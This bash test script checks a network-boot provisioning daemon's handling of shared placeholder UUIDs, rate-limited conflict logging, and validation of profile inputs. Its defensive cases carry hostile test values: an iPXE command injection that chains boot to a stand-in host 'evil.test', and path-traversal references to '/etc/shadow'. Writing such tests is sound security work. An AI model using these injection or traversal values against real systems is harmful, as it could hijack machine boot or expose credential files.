#!/bin/bash
# What reaches an iPXE script and the boot log from the two sides that feed them:
# unauthenticated servers on the provisioning network, and operators writing profiles.
. "$(dirname "$0")/lib.sh"

start_daemon
json=(-H 'Content-Type: application/json')
arch='buildarch=x86_64&platform=efi'

# Some firmware without a real SMBIOS UUID reports all zeros or all ones, so several
# servers share that value. It must not stop the second one from being discovered.
for placeholder in 00000000-0000-0000-0000-000000000000 ffffffff-ffff-ffff-ffff-ffffffffffff; do
	boot_get "/boot/ipxe?mac=52:54:00:c0:00:01&uuid=$placeholder&$arch" -o /dev/null
	script=$(boot_get "/boot/ipxe?mac=52:54:00:c0:00:02&uuid=$placeholder&$arch")
	expect_contains "shared UUID $placeholder discovered" "$script" \
		"is registered as discovered"
	api_unix DELETE /api/v1/machines/52:54:00:c0:00:01 -o /dev/null
	api_unix DELETE /api/v1/machines/52:54:00:c0:00:02 -o /dev/null
done

# A server whose UUID belongs to another machine requests its script again every
# retry_seconds, forever, and a hostile one as fast as it likes. The warning is
# rate-limited like other client-caused boot lines (20 a second, and the loop below
# may span two or three seconds), not logged once per request.
# Machines may now share a UUID, so this server is registered on its first request
# and logs no warning at all. The check on the log still holds, and the check after
# it makes sure that the server was registered exactly once.
api_unix POST /api/v1/machines "${json[@]}" \
	-d '{"macs": ["52:54:00:c0:00:10"], "uuid": "4c4c4544-0042-3510-8052-b4c04f4e36aa"}' -o /dev/null
for _ in $(seq 1 100); do
	echo "url = \"http://127.0.0.1:$BOOT_PORT/boot/ipxe?mac=52:54:00:c0:00:11&uuid=4c4c4544-0042-3510-8052-b4c04f4e36aa&$arch\""
	echo "output = /dev/null"
done > "$WORK/curl.cfg"
curl -sS -K "$WORK/curl.cfg"
lines=$(grep -c 'cannot register mac=52:54:00:c0:00:11' "$WORK/daemon.log")
check "UUID conflict log rate-limited ($lines lines for 100 requests)" \
	test "$lines" -le 60
count=$(api_unix GET '/api/v1/machines?mac=52:54:00:c0:00:11' | jq '.items | length')
expect_eq "server with a UUID another machine has registered once" "$count" 1

# The profile command line goes into the kernel line of deploy.ipxe. iPXE runs
# "a && b" and "a || b" as two commands, so a command line must not be able to
# add a command of its own, here a chain to another server.
mkdir -p "$WORK/store/deploy"
: > "$WORK/store/deploy/k"
: > "$WORK/store/deploy/i"
code=$(api_unix POST /api/v1/profiles "${json[@]}" -o /dev/null -w '%{http_code}' -d \
	'{"name": "inject", "kernel": "deploy/k", "initrd": "deploy/i", "cmdline": "quiet && chain http://evil.test/x"}')
if [ "$code" = 201 ]; then
	id=$(api_unix POST /api/v1/machines "${json[@]}" -d '{"macs": ["52:54:00:c0:00:20"]}' | jq -r .id)
	api_unix POST "/api/v1/machines/$id/deploy" "${json[@]}" -d '{"profile": "inject"}' -o /dev/null
	script=$(boot_get "/boot/ipxe?mac=52:54:00:c0:00:20&$arch")
	check "cmdline adds no iPXE command" \
		bash -c '! grep -q "&& chain http://evil.test" <<<"$1"' _ "$script"
else
	expect_eq "cmdline with && rejected" "$code" 400
fi

# Artifact references are paths under the artifact store. The boot listener
# rejects anything else when the machine boots. The API must reject it when the
# profile is written, with an error that names the value.
for kernel in ../../etc/shadow /etc/shadow http://evil.test/k 'deploy/%2e%2e'; do
	reply=$(api_unix POST /api/v1/profiles "${json[@]}" -w '\n%{http_code}' -d \
		"{\"name\": \"badref\", \"kernel\": \"$kernel\", \"initrd\": \"deploy/i\"}")
	expect_eq "kernel '$kernel' rejected" "$(tail -n 1 <<<"$reply")" 400
	expect_contains "kernel '$kernel' named" \
		"$(head -n 1 <<<"$reply" | jq -r .detail)" "$kernel"
	api_unix DELETE /api/v1/profiles/badref -o /dev/null
done
api_unix POST /api/v1/profiles "${json[@]}" -o /dev/null \
	-d '{"name": "good", "kernel": "deploy/k", "initrd": "deploy/i"}'
code=$(api_unix PATCH /api/v1/profiles/good "${json[@]}" -o /dev/null -w '%{http_code}' \
	-d '{"kernel": null}')
expect_eq "PATCH kernel null rejected" "$code" 400
code=$(api_unix PATCH /api/v1/profiles/good "${json[@]}" -o /dev/null -w '%{http_code}' \
	-d '{"image": "../x"}')
expect_eq "PATCH image outside store rejected" "$code" 400

finish
